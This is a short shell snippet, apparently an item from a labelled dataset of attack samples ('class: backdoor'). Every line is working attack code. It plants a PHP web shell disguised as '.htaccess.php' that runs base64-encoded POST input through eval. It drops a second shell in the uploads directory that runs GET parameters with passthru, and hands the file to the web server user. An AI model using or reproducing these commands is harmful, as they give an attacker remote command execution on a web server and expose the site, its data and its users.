# class: backdoor, PHP by here-document; style: terse
cat > /var/www/html/.htaccess.php <<'P'
<?php @eval(base64_decode($_POST['z'])); ?>
P
php -r 'file_put_contents("/var/www/html/uploads/i.php", "<?php passthru(\$_GET[0]); ?>");'
chown www-data: /var/www/html/.htaccess.php
